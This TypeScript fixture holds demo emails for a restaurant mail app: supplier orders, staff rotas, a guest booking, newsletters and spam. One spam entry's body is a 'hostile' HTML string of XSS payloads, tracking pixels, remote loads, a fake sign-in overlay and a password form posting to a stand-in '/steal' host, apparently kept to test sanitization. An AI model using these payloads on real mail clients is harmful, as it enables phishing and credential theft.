import type { Attachment, MailFolder, MailLabel } from '@larder/domain/contract';
import { mailFiles } from './mailFiles';

/** Who writes and who is written to; `own` is the mailbox of the demo. */
export const mailPeople = {
  own: ['Maren Holt', 'maren.holt@saltmarsh.example'],
  ilse: ['Ilse Okafor', 'ilse.okafor@saltmarsh.example'],
  tomas: ['Tomás Reyes', 'tomas.reyes@saltmarsh.example'],
  bea: ['Bea Lindqvist', 'bea.lindqvist@saltmarsh.example'],
  priya: ['Priya Nandakumar', 'priya.nandakumar@saltmarsh.example'],
  lucia: ['Lucía Fernández Ibáñez', 'lucia.ibanez@saltmarsh.example'],
  layla: ['ليلى المنصوري', 'layla.mansouri@saltmarsh.example'],
  kenji: ['Kenji Aramaki', 'kenji.aramaki@saltmarsh.example'],
  larder: ['Larder', 'tills@larder.example'],
  fish: ['Brackwater Fish', 'orders@brackwater.example'],
  dairy: ['Greenholt Dairy', 'hello@greenholt.example'],
  bakery: ['Old Mill Bakery', 'ovens@oldmill.example'],
  greens: ['Tithe Barn Produce', 'boxes@tithebarn.example'],
  coffee: ['Kettle & Crane Coffee', 'roastery@kettle-and-crane.example'],
  wine: ['Adega do Monte', 'cellar@adegadomonte.example'],
  guest: ['Dana Ashworth', 'dana.ashworth@postbox.example'],
  guest2: ['Henrik Solberg', 'henrik@solberg.example'],
  bank: ['Harbour Bank', 'statements@harbourbank.example'],
  city: ['City Food Safety', 'inspections@cityfood.example'],
  press: ['Marguerite Stroud', 'm.stroud@plateandtide.example'],
  landlord: ['Quayside Properties', 'tenants@quayside.example'],
  sister: ['Solveig Holt', 'solveig@holt.example'],
  prize: ['PRIZE OFFICE', 'winner@totally-real-prizes.example'],
  seo: ['Rank Rocket', 'boost@rankrocket.example'],
  parcel: ['Parcel Desk', 'hold@parcel-desk.example'],
} as const satisfies Record<string, readonly [name: string, email: string]>;
type PersonKey = keyof typeof mailPeople;

export interface MailText {
  /** Name by which others answer it. */
  key?: string;
  from?: PersonKey;
  to?: readonly PersonKey[];
  cc?: readonly PersonKey[];
  subject: string;
  /** Paragraphs between `|`; what begins with `<` is HTML as it stands. */
  body: string;
  folder?: MailFolder;
  /** Hours before now. */
  ago: number;
  labels?: readonly MailLabel[];
  files?: readonly Attachment[];
  isStarred?: boolean;
  isUnread?: boolean;
  replyTo?: string;
  /** The first mail of the conversation. */
  thread?: string;
  /** Hours from now at which it leaves. */
  later?: number;
}

const { pdf, picture, table, text, archive } = mailFiles;

/** What a mail may try: nothing of it may run, load or be sent. */
const hostile = `<h1 onclick="alert('click')">You have won</h1><script>alert('script')</script><img src="x" onerror="alert('error')"><img src="https://tracker.totally-real-prizes.example/pixel.gif?who=maren" width="1" height="1"><style>@import url(https://totally-real-prizes.example/style.css); body { background: url(https://totally-real-prizes.example/back.png) }</style><iframe src="https://totally-real-prizes.example"></iframe><svg><script>alert('svg')</script></svg><form action="https://totally-real-prizes.example/steal" method="post"><label>Password <input type="password" name="password"></label><button>Collect</button></form><a href="javascript:alert('link')">Collect your prize</a><base href="https://totally-real-prizes.example/"><meta http-equiv="refresh" content="0;url=https://totally-real-prizes.example/"><p style="position:fixed;inset:0;z-index:99999">Your session has ended. Sign in again.</p>`;

const newsletter = `<table width="100%" cellpadding="0" cellspacing="0" style="background:#f4efe6"><tr><td style="padding:24px;font-family:Georgia,serif;color:#3b2f25"><img src="https://pictures.kettle-and-crane.example/autumn-lot.jpg" alt="Sacks of the autumn lot" width="480" height="240"><h2 style="margin:16px 0 8px">The autumn lots are in</h2><p>Two washed coffees from small farms, and a decaf you can serve after ten.</p><ul><li><b>Hillside</b>: plum, black tea</li><li><b>Riverbank</b>: hazelnut, orange peel</li></ul><p><a href="https://kettle-and-crane.example/autumn" style="color:#8a4b2a">Order before Thursday noon</a></p></td></tr></table>`;

export const mailTexts: readonly MailText[] = [
  // Three conversations.
  {
    key: 'party',
    from: 'guest',
    subject: 'Table for 22 on Friday',
    body: 'Good morning,|We are 22 for a retirement dinner this Friday at 22:00. Could we have the long table? Two of us eat no shellfish.|Dana',
    ago: 96,
    labels: ['important'],
  },
  {
    key: 'party2',
    folder: 'sent',
    to: ['guest'],
    subject: 'Re: Table for 22 on Friday',
    body: 'Dear Dana,|The long table is yours from 22:00. We will send three menus to choose from and mark two places without shellfish.|Maren',
    ago: 92,
    replyTo: 'party',
    thread: 'party',
  },
  {
    from: 'guest',
    subject: 'Re: Table for 22 on Friday',
    body: 'Thank you! The second menu, and a cake without nuts. Is 23:30 for the speech all right with the kitchen?|Dana',
    ago: 1.2,
    labels: ['important'],
    isStarred: true,
    isUnread: true,
    replyTo: 'party2',
    thread: 'party',
  },
  {
    key: 'hake',
    from: 'fish',
    subject: 'Hake is short this week',
    body: 'The boats stay in until Wednesday. We can send 14 kg of hake instead of 30, or pollock at the same price.',
    ago: 30,
    labels: ['company'],
    files: [table('brackwater-prices', ['Fish;kg;Price', 'Hake;14;18.40', 'Pollock;40;11.20', 'Mussels;25;6.80'])],
  },
  {
    key: 'hake2',
    folder: 'sent',
    to: ['fish'],
    cc: ['ilse'],
    subject: 'Re: Hake is short this week',
    body: 'Send the 14 kg and 16 kg of pollock. We change the card for three days.',
    ago: 28,
    labels: ['company'],
    replyTo: 'hake',
    thread: 'hake',
  },
  {
    from: 'fish',
    subject: 'Re: Hake is short this week',
    body: 'Done. On the van at 06:10 tomorrow, ice boxes to be returned.',
    ago: 26.5,
    labels: ['company'],
    replyTo: 'hake2',
    thread: 'hake',
  },
  {
    key: 'rota',
    from: 'ilse',
    cc: ['tomas'],
    subject: 'Rota for the festival weekend',
    body: 'Maren, Saturday is two short on the floor from 18:00. Tomás can do a double if he has Sunday lunch off. Bea lends us one runner.',
    ago: 5,
    labels: ['company'],
    isUnread: true,
  },
  {
    folder: 'sent',
    to: ['ilse'],
    cc: ['tomas'],
    subject: 'Re: Rota for the festival weekend',
    body: 'Agreed, and pay the runner the late rate.',
    ago: 4.1,
    labels: ['company'],
    replyTo: 'rota',
    thread: 'rota',
  },
  // Inbox.
  {
    from: 'city',
    subject: 'Report of the visit on the 4th',
    body: 'Please find the report attached. Two remarks: the probe of cold store 2 reads 0.6 °C low, and the label printer of the pastry section prints no year.|Next visit within twelve months.',
    ago: 20,
    labels: ['important', 'company'],
    isStarred: true,
    isUnread: true,
    files: [pdf('inspection-report', 'Inspection report: two remarks, no measures')],
  },
  {
    from: 'press',
    subject: 'A page about your bread',
    body: 'Hello Maren,|I write the weekend page of Plate &amp; Tide. May I watch a morning shift in the bakery? Three hours, one photographer, nobody in the way.',
    ago: 8,
    isUnread: true,
    labels: ['personal'],
  },
  {
    from: 'kenji',
    subject: 'Oven 2 waits for its part',
    body: 'The thermostat arrives on Monday. Until then we bake in two rounds and take six loaves from Old Mill.|The engineer wants the serial plate, picture attached.',
    ago: 13,
    labels: ['company'],
    files: [picture('oven-2-plate', 'Deck oven 2', 24)],
  },
  {
    from: 'lucia',
    subject: 'Autumn menu, second draft',
    body: 'Chestnut soup is in, the squid is out. Costs are in the table, allergens in the text file. Can we taste on Wednesday?',
    ago: 22,
    labels: ['company'],
    isStarred: true,
    files: [
      table('autumn-costs', [
        'Dish;Cost;Price',
        'Chestnut soup;2.90;13.00',
        'Roast squash;3.40;18.00',
        'Quince tart;2.10;11.00',
      ]),
      text('allergens', 'Chestnut soup: milk, celery\nRoast squash: sesame\nQuince tart: wheat, egg, milk'),
    ],
  },
  { from: 'coffee', subject: 'The autumn lots are in', body: newsletter, ago: 27, isUnread: true },
  {
    from: 'bank',
    subject: 'Statement for October',
    body: 'Your statement is ready. Takings of three terminals were credited on the 2nd instead of the 1st because of the holiday.',
    ago: 40,
    labels: ['private'],
    files: [pdf('statement-october', 'Statement for October')],
  },
  {
    from: 'bakery',
    subject: 'Rye starter for the new place',
    body: 'We keep a jar for you. It likes 26 degrees and to be fed at night. Bring your own lid.',
    ago: 46,
  },
  {
    from: 'layla',
    subject: 'جدول التدريب للأسبوع القادم',
    body: 'صباح الخير مارين،|أرفقت جدول تدريب فريق الصالة. الجلسة الأولى يوم الثلاثاء في العاشرة.|ليلى',
    ago: 49,
    labels: ['company'],
    isUnread: true,
  },
  {
    from: 'guest2',
    subject: 'A scarf under table 9',
    body: 'Grey wool, a small burn at one end. We sat there on Sunday evening. I can fetch it any morning.',
    ago: 52,
  },
  {
    from: 'landlord',
    subject: 'Water will be off for three hours',
    body: 'The main in the street is replaced. No water from 07:00 to 10:00, twelve days from today. Fill what you need the evening before.',
    ago: 55,
    labels: ['important'],
  },
  {
    from: 'sister',
    subject: 'Mother’s birthday',
    body: 'Are you bringing the almond cake, or do I have to?|There will be eleven of us, and the dog.',
    ago: 60,
    labels: ['personal', 'private'],
    isStarred: true,
  },
  {
    from: 'greens',
    subject: 'First squash of the year',
    body: '40 kg Crown Prince, 20 kg onion squash, and nettles if you say so before noon.',
    ago: 66,
  },
  {
    from: 'priya',
    subject: 'Corkage, complaints, a compliment',
    body: 'Corkage: two tables asked, both paid. Complaints: one, the draught at table 2. Compliment: a guest called Tomás the calmest man in the city.',
    ago: 70,
    labels: ['company'],
  },
  {
    from: 'wine',
    subject: 'Allocation 2025: 6 cases are yours until Friday',
    body: 'We hold six cases of the field blend for Casa Alecrim. The price is that of last year.',
    ago: 74,
    files: [pdf('allocation', 'Allocation 2025: six cases')],
  },
  {
    from: 'dairy',
    subject: 'Glass instead of plastic',
    body: 'From next month the cream comes in one-litre bottles with a deposit of 0.60. Crates of 12. The van takes the empties back.',
    ago: 80,
    labels: ['company'],
  },
  {
    from: 'tomas',
    subject: 'Swap on Thursday',
    body: 'Rafael takes my lunch, I take his late. Both of us are fine with it, it needs your word.',
    ago: 84,
    isUnread: true,
  },
  {
    from: 'ilse',
    subject:
      'Re: Re: Fwd: Re: The very long matter of which chairs go where on the terrace once the awning is moved two metres towards the harbour and the heaters stand in the other row, including the four folding ones from Komorebi',
    body: 'Six here, eight there, four in the cellar. Drawing attached.',
    ago: 100,
    files: [picture('terrace', 'Terrace, second row', 140)],
  },
  {
    from: 'bea',
    subject: 'Photographs of the tasting',
    body: 'All 48 of them. The fifth is the one for the menu.',
    ago: 110,
    files: [archive('tasting-photographs'), picture('tasting-05', 'Quince tart', 40)],
    labels: ['personal'],
  },
  {
    from: 'bank',
    subject: 'New signature card',
    body: 'The card for Ilse Okafor is valid from the 1st.',
    ago: 150,
    labels: ['private', 'company'],
  },
  {
    from: 'guest',
    subject: 'Praise, and a button',
    body: 'Best evening of the year. One of us lost a brass button near the coat rack; it is of no value to anyone but him.',
    ago: 190,
    isStarred: true,
  },
  {
    from: 'city',
    subject: 'New rules for allergen cards',
    body: 'From January each dish that is sold unpacked needs its card in writing. A sample is attached.',
    ago: 240,
    labels: ['important'],
    files: [pdf('sample-card', 'Allergen card: sample')],
  },
  // Sent.
  {
    folder: 'sent',
    to: ['coffee'],
    subject: 'Order 2211',
    body: '24 kg house, 6 kg decaf, on Thursday as usual.',
    ago: 33,
    labels: ['company'],
  },
  {
    folder: 'sent',
    to: ['sister'],
    subject: 'The cake',
    body: 'I bring it. You do the candles.',
    ago: 58,
    labels: ['personal'],
  },
  {
    folder: 'sent',
    to: ['ilse', 'priya', 'kenji'],
    subject: 'Managers’ round on Monday',
    body: 'Ten o’clock, back office. Bring the voids above 40 and the one thing you would stop doing.',
    ago: 76,
    labels: ['company', 'important'],
  },
  {
    folder: 'sent',
    to: ['guest2'],
    subject: 'Your scarf',
    body: 'It hangs behind the bar with your name on it.',
    ago: 50,
  },
  {
    folder: 'sent',
    to: ['bakery'],
    subject: 'Six loaves a day until Tuesday',
    body: 'Deck oven 2 is out. Six of the dark ones before eleven, please put them on the house account.',
    ago: 12,
    labels: ['company'],
    isStarred: true,
  },
  {
    folder: 'sent',
    to: ['landlord'],
    subject: 'Awning',
    body: 'Plans attached. The posts stand on our side of the drain.',
    ago: 130,
    files: [pdf('awning', 'Awning: plan, scale 1 to 50')],
  },
  // Drafts, one of them waiting for its hour.
  {
    folder: 'draft',
    to: ['press'],
    subject: 'Re: A page about your bread',
    body: 'Dear Marguerite,|Come on Tuesday at four in the morning. Wear shoes that',
    ago: 2,
    labels: ['personal'],
  },
  {
    folder: 'draft',
    to: ['wine'],
    subject: 'The six cases',
    body: 'We take all six. Invoice to Casa Alecrim, delivery after the 20th.',
    ago: 3,
    later: 14,
    labels: ['company'],
  },
  { folder: 'draft', subject: '', body: 'Ideas for the staff party: bowling, boat, nothing at all', ago: 75 },
  { folder: 'draft', to: ['tomas'], subject: 'About Thursday', body: 'Tomás, fine with me, but', ago: 82 },
  {
    folder: 'draft',
    to: ['dairy'],
    cc: ['lucia'],
    subject: 'Deposit bottles',
    body: 'Two questions before we say yes: who washes them, and where do twelve crates stand in Lisbon?',
    ago: 90,
    files: [text('crates', 'Cold store 1: 4 crates\nCold store 2: 5 crates\nYard: none')],
  },
  // Spam.
  {
    folder: 'spam',
    from: 'prize',
    subject: 'YOUR PRIZE WAITS!!! <b>Open now</b>',
    body: hostile,
    ago: 6,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'seo',
    subject: 'First place in every search, guaranteed',
    body: 'We looked at your site and wept. For 299 a month you will be found before you are looked for.',
    ago: 31,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'parcel',
    subject: 'Parcel held: pay 1.99',
    body: '<p>Your parcel is held at the depot. <a href="http://parcel-desk.example/pay?id=7">Pay the fee</a> within 12 hours.</p>',
    ago: 47,
    isUnread: true,
  },
  {
    folder: 'spam',
    from: 'prize',
    subject: 'Last warning about your prize',
    body: 'You have not answered. The prize is sad.',
    ago: 120,
  },
  {
    folder: 'spam',
    from: 'seo',
    subject: 'Re: our call',
    body: 'It was good to talk yesterday (we did not). Shall we say Tuesday?',
    ago: 145,
    labels: ['company'],
    isStarred: true,
  },
  // Trash.
  { folder: 'trash', from: 'greens', subject: 'Boxes of last week', body: 'Seven boxes are still with you.', ago: 160 },
  {
    folder: 'trash',
    from: 'coffee',
    subject: 'Summer lots, last call',
    body: 'The lemon one is nearly gone.',
    ago: 400,
    labels: ['company'],
  },
  {
    folder: 'trash',
    from: 'larder',
    subject: 'Printer at the pass was offline for 4 min',
    body: 'It is back. Two tickets were printed late: 118 and 119.',
    ago: 55,
    isStarred: true,
  },
  { folder: 'trash', to: ['seo'], subject: 'No', body: 'Take us off your list.', ago: 29 },
  {
    folder: 'trash',
    from: 'landlord',
    subject: 'Lift inspection',
    body: 'Done, no remarks.',
    ago: 300,
    isUnread: true,
  },
];
